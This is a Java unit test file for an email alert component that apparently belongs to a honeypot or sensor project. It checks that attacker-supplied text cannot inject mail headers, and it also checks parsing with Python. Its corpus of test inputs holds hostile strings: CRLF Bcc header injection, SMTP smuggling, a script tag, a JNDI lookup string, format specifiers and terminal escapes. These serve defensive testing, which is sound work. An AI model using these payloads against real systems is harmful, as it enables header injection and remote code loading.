package org.sundew.alert.email;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import jakarta.mail.Header;
import jakarta.mail.Session;
import jakarta.mail.internet.MimeMessage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.Properties;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.sundew.event.Listen;
import org.sundew.event.Note;
import org.sundew.event.Payload;
import org.sundew.event.RuleMatch;
import org.sundew.event.SensorEvent;
import org.sundew.event.Visit;
import org.sundew.event.Visited;
import org.sundew.testkit.ConfigOf;
import org.sundew.testkit.Samples;

/** Whatever visitors say, a mail has the headers it should have and one harmless text, as two parsers read it. */
final class HostileWordsTest {
    private static final Instant NOW = Instant.parse("2026-01-02T03:04:05Z");
    private static final List<String> HEADERS = List.of(
            "Date",
            "From",
            "To",
            "Subject",
            "Message-ID",
            "MIME-Version",
            "Content-Type",
            "Content-Transfer-Encoding",
            "Auto-Submitted",
            "X-Sundew-Event",
            "X-Sundew-Events");

    static Stream<String> corpus() {
        return Stream.of(
                "\r\nBcc: everybody@example.com",
                "\nBcc: everybody@example.com\n\nhello",
                "\rBcc: everybody@example.com",
                "\r\n.\r\nMAIL FROM:<x@y>",
                ".\n..\n",
                "=?utf-8?b?DQpCY2M6IGV2ZXJ5Ym9keUBleGFtcGxlLmNvbQ==?=",
                "=?utf-8?q?=0D=0ABcc:_x@y?=",
                "=\u0000?utf-8?q?x?=",
                "From mallory Fri Jan  2 03:04:05 2026",
                "--boundary\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
                "<img src=http://203.0.113.1/x>",
                "\u001b[2J\u001b]0;owned\u0007",
                "\u009b31m\u0085\u2028\u2029",
                "\u202eexe.cod\u200b\ufeff",
                "${jndi:ldap://203.0.113.1/a}",
                "%n%s%1$n {} {0}",
                "\u0000\b\f\u007f\u00ff",
                "\ud83d\ude00\ud800",
                "\\x41\\\\",
                "a".repeat(5000),
                "\r\n".repeat(3000));
    }

    private static SensorEvent event(long sequence, String words) {
        Visited sample = Samples.visited(sequence, "", "", new Note(Note.USER, words), new Note(words + "x", words));
        Listen as = sample.at().listen();
        Listen listen = new Listen(words + "x", words, as.transport(), as.port(), words, as.severity(), as.limit());
        Visit visit = new Visit(
                sample.at().id(),
                sample.at().started(),
                sample.at().visitor(),
                sample.at().sensor(),
                listen,
                1);
        return new Visited(
                sample.id(),
                sequence,
                sample.time(),
                visit,
                sample.severity(),
                sample.closedBy(),
                Payload.of(words.getBytes(UTF_8)),
                Payload.of(words),
                sample.notes(),
                Optional.of(new RuleMatch(words, words, "signatures")),
                Optional.empty());
    }

    private static List<String> mails(String words) {
        Envelope envelope =
                new Keys(ConfigOf.of(EmailSink.Config.class, "to", "a@example.com; b@example.com")).envelope();
        List<String> mails = new ArrayList<>();
        for (Form form : Form.values()) {
            Letters letters = new Letters(envelope, form);
            for (int events : new int[] {1, 3}) {
                List<SensorEvent> all = Collections.nCopies(events, event(5, words));
                Batch batch =
                        new Batch(all, letters.id(all), Optional.of(NOW), List.of("a: " + Plain.text(words, 200)));
                mails.add(letters.write(batch, NOW));
                mails.add(letters.writeWithoutVisitorsWords(batch, Plain.text(words, 200), NOW));
            }
        }
        return mails;
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void noWordGetsIntoAHeaderOrOutOfItsLine(String words) throws Exception {
        for (String mail : mails(words)) {
            assertThat(mail.lines())
                    .allSatisfy(line -> assertThat(line).hasSizeLessThan(998).matches("[ -~]*"));
            assertThat(mail.replace("\r\n", "")).doesNotContain("\r", "\n");

            MimeMessage parsed = new MimeMessage(
                    Session.getInstance(new Properties()), new ByteArrayInputStream(mail.getBytes(US_ASCII)));
            assertThat(Collections.list(parsed.getAllHeaders()).stream().map(Header::getName))
                    .containsExactlyElementsOf(HEADERS);
            assertThat(parsed.getAllRecipients()).hasSize(2);
            assertThat(parsed.getSubject()).matches("[ -~]{1,240}").startsWith("[Sundew] medium: ");
        }
    }

    @Test
    void pythonReadsTheSame() throws Exception {
        assumeThat(Files.isExecutable(Path.of("/usr/bin/python3")))
                .as("python3 is not installed")
                .isTrue();
        String script = """
                import email, email.policy, sys
                for text in sys.stdin.buffer.read().split(b"\\0")[:-1]:
                    mail = email.message_from_bytes(text, policy=email.policy.default)
                    assert not mail.defects, mail.defects
                    assert not mail.is_multipart() and mail.get_content_type() == "text/plain"
                    assert len(mail["To"].addresses) == 2 and mail["Cc"] is None and mail["Bcc"] is None
                    assert str(mail["Subject"]).startswith("[Sundew] medium: "), mail["Subject"]
                    assert all(not header.defects for header in mail.values())
                    assert all(" " <= c <= "~" or c == "\\n" for c in mail.get_content().replace("\\r\\n", "\\n"))
                    print(",".join(mail.keys()))
                """;
        List<String> mails = corpus().flatMap(words -> mails(words).stream()).toList();
        Process python = new ProcessBuilder("/usr/bin/python3", "-c", script)
                .redirectErrorStream(true)
                .start();
        feed(python, mails);

        String said = new String(python.getInputStream().readAllBytes(), UTF_8);

        assertThat(python.waitFor()).as(said).isZero();
        assertThat(said.lines()).hasSameSizeAs(mails).allMatch(String.join(",", HEADERS)::equals);
    }

    private static void feed(Process python, List<String> mails) throws IOException {
        try (OutputStream out = python.getOutputStream()) {
            for (String mail : mails) {
                out.write(mail.getBytes(US_ASCII));
                out.write(0);
            }
        }
    }
}
